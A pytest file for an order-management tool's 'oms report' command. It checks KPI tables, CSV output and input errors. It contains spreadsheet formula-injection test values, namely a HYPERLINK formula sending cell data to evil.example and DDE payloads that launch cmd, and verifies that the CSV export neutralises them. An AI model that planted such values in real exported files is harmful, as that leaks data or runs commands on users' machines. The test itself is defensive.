"""`oms report` as a user runs it, and its CSV as a spreadsheet would read it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from store import Store, ingest, open_store
from store.catalog import NewSku, add_channel, add_location, add_skus
from store.fulfilment import ship_reserved
from store.inventory import receive
from store.kpis import kpi_report, order_facts
from store.orders import cancel
from store.types import utcnow
from oms.report_cmd import csv_text, order_rows, summary_rows
from tests.factories import order

DAY = dt.timedelta(days=1)
EVIL_CHANNEL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"win\")"
EVIL_BUYERS = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3+cmd|' /C notepad'!A0", "@SUM(A1:A9)", "\tTAB", "\rCR")


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_neutralises_formulas_in_names_but_keeps_numbers_numbers(catalog: Store) -> None:
    add_channel(catalog, EVIL_CHANNEL, "Evil shop", "cart")
    receive(catalog, "S1", "A", 100)
    now = utcnow()
    out = ingest(catalog, [
        order(f"e{i}", ("S1", 1), channel=EVIL_CHANNEL, buyer_name=buyer) for i, buyer in enumerate(EVIL_BUYERS)
    ] + [order("future", ("S1", 1), channel=EVIL_CHANNEL, placed_at=now + dt.timedelta(hours=3))])
    ids = [o.order_id for o in out.outcomes if o.order_id is not None]
    for oid in ids[:2] + ids[-1:]:
        ship_reserved(catalog, oid, carrier="UPS", tracking=f"1Z{oid}")
    cancel(catalog, ids[2], "=1+1 out of stock")

    per_order = _parse(csv_text(order_rows(order_facts(catalog, now - DAY, now + DAY))))
    buyers = {r["external_id"]: r["buyer_name"] for r in per_order}
    assert [buyers[f"e{i}"] for i in range(len(EVIL_BUYERS))] == ["'" + b for b in EVIL_BUYERS]
    assert {r["channel"] for r in per_order} == {"'" + EVIL_CHANNEL}
    assert [r["cancel_reason"] for r in per_order if r["cancel_reason"]] == ["'=1+1 out of stock"]
    # Placed three hours after it reached us (a channel's clock ahead of ours): its clock starts when
    # it reached us, so it shipped in about no time, never in minus three hours.
    future = [r for r in per_order if r["external_id"] == "future"][0]
    assert float(future["hours_to_ship"]) == pytest.approx(0, abs=0.05)

    summary = _parse(csv_text(summary_rows(kpi_report(catalog, now - DAY, now + DAY))))
    assert [r["channel"] for r in summary] == ["'" + EVIL_CHANNEL, "(all)"]
    # Three shipped at once: none pulls the mean below zero.
    assert float(summary[0]["hours_to_ship_mean"]) == pytest.approx(0, abs=0.05)
    assert summary[0]["orders"] == "7" and summary[0]["cancelled_pct"] == "14.3"
    # A negative number is a number, never a formula to neutralise.
    assert csv_text([["n", "text"], [-1.5, "-1.5"]]) == "n,text\r\n-1.5,'-1.5\r\n"


def _oms(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("OMS_DATABASE_URL", "OMS_CONFIG")}
    env["OMS_HOME"] = str(home)
    return subprocess.run([sys.executable, "-m", "oms", *args], env=env, capture_output=True, text=True, timeout=600)


def _history(home: Path) -> None:
    """Two channels: web ships 3 of 4 on time, amz has one order cancelled of three and one overdue."""
    store = open_store(f"sqlite:///{home / 'oms.db'}")
    add_channel(store, "web", "Web shop", "cart")
    add_channel(store, "amz", "Amazon", "marketplace")
    add_location(store, "A", "Alpha DC")
    add_skus(store, [NewSku("S1", "Thing", 1000, "USD")])
    receive(store, "S1", "A", 100)
    now = utcnow()
    today = now.date()
    out = ingest(store, [
        order("w1", ("S1", 1), requested_ship_date=today + DAY, placed_at=now - dt.timedelta(hours=4)),
        order("w2", ("S1", 1), requested_ship_date=today + DAY, placed_at=now - dt.timedelta(hours=8)),
        order("w3", ("S1", 1), placed_at=now - dt.timedelta(hours=12)),
        order("w4", ("S1", 1), placed_at=now - 6 * DAY),
        order("a1", ("S1", 2), channel="amz"),
        order("a2", ("S1", 2), channel="amz"),
        order("a3", ("S1", 1), channel="amz", requested_ship_date=today - 2 * DAY),  # not shipped: overdue
    ])
    ids = [o.order_id for o in out.outcomes if o.order_id is not None]
    for oid in ids[:4]:
        ship_reserved(store, oid, carrier="UPS", tracking=f"1Z{oid}")
    cancel(store, ids[5], "buyer cancelled")
    store.dispose()


def test_report_prints_a_table_per_channel_and_writes_csv(tmp_path: Path) -> None:
    assert _oms(tmp_path, "init").returncode == 0
    _history(tmp_path)
    out_csv = tmp_path / "kpis.csv"
    proc = _oms(tmp_path, "report", "--csv", str(out_csv))
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0].startswith("KPIs of the orders received ") and lines[0].endswith(" (UTC)")
    assert lines[3].split() == ["amz", "web", "(all)"]
    rows = {cells[0]: cells[1:] for cells in (re.split(r"\s{2,}", line.strip()) for line in lines[4:])}
    assert rows["orders received"] == ["3", "4", "7"]
    assert rows["on-time ship rate"] == ["-", "75.0% (3/4)", "75.0% (3/4)"]
    assert rows["not shipped, overdue"] == ["1", "0", "1"]
    assert rows["cancellation rate"] == ["33.3% (1/3)", "0.0% (0/4)", "14.3% (1/7)"]
    assert rows["order to ship, median"][1] == "10.0 h"
    assert "wrote 3 row(s)" in proc.stderr

    data = out_csv.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so spreadsheets take it as UTF-8
    table = _parse(data.decode("utf-8-sig"))
    assert [(r["channel"], r["orders"], r["on_time_pct"], r["overdue_unshipped"]) for r in table] == [
        ("amz", "3", "", "1"), ("web", "4", "75.0", "0"), ("(all)", "7", "75.0", "1")]

    only = _oms(tmp_path, "report", "--channel", "web", "--csv", "-", "--orders", "--sla-days", "10")
    assert only.returncode == 0, only.stderr
    per_order = _parse(only.stdout)
    assert [(r["external_id"], r["on_time"]) for r in per_order] == [
        ("w1", "1"), ("w2", "1"), ("w3", "1"), ("w4", "1")]


def test_report_period_and_channel_come_from_the_options(tmp_path: Path) -> None:
    assert _oms(tmp_path, "init").returncode == 0
    _history(tmp_path)
    long_ago = _oms(tmp_path, "report", "--since", "2020-01-01", "--until", "2020-01-31")
    assert long_ago.returncode == 0, long_ago.stderr
    assert "(no orders received in this period)" in long_ago.stdout
    assert "KPIs of the orders received 2020-01-01 .. 2020-01-31 (UTC)" in long_ago.stdout
    today = utcnow().date().isoformat()
    just_today = _oms(tmp_path, "report", "--since", today, "--until", today, "--channel", "amz", "--csv", "-")
    assert [(r["channel"], r["orders"]) for r in _parse(just_today.stdout)] == [("amz", "3"), ("(all)", "3")]


def test_report_says_what_is_wrong_with_its_input(tmp_path: Path) -> None:
    assert _oms(tmp_path, "init").returncode == 0
    _history(tmp_path)
    unknown = _oms(tmp_path, "report", "--channel", "shopify")
    assert unknown.returncode == 2 and "no channel 'shopify' (channels: amz, web)" in unknown.stderr
    backwards = _oms(tmp_path, "report", "--since", "2026-02-01", "--until", "2026-01-01")
    assert backwards.returncode == 2 and "--since 2026-02-01 is after --until 2026-01-01" in backwards.stderr
    bad_date = _oms(tmp_path, "report", "--since", "01/02/2026")
    assert bad_date.returncode == 2 and "--since" in bad_date.stderr
    orders_alone = _oms(tmp_path, "report", "--orders")
    assert orders_alone.returncode == 2 and "give --csv FILE" in orders_alone.stderr
    unwritable = _oms(tmp_path, "report", "--csv", str(tmp_path / "no" / "such" / "dir.csv"))
    assert unwritable.returncode == 1 and "cannot write" in unwritable.stderr
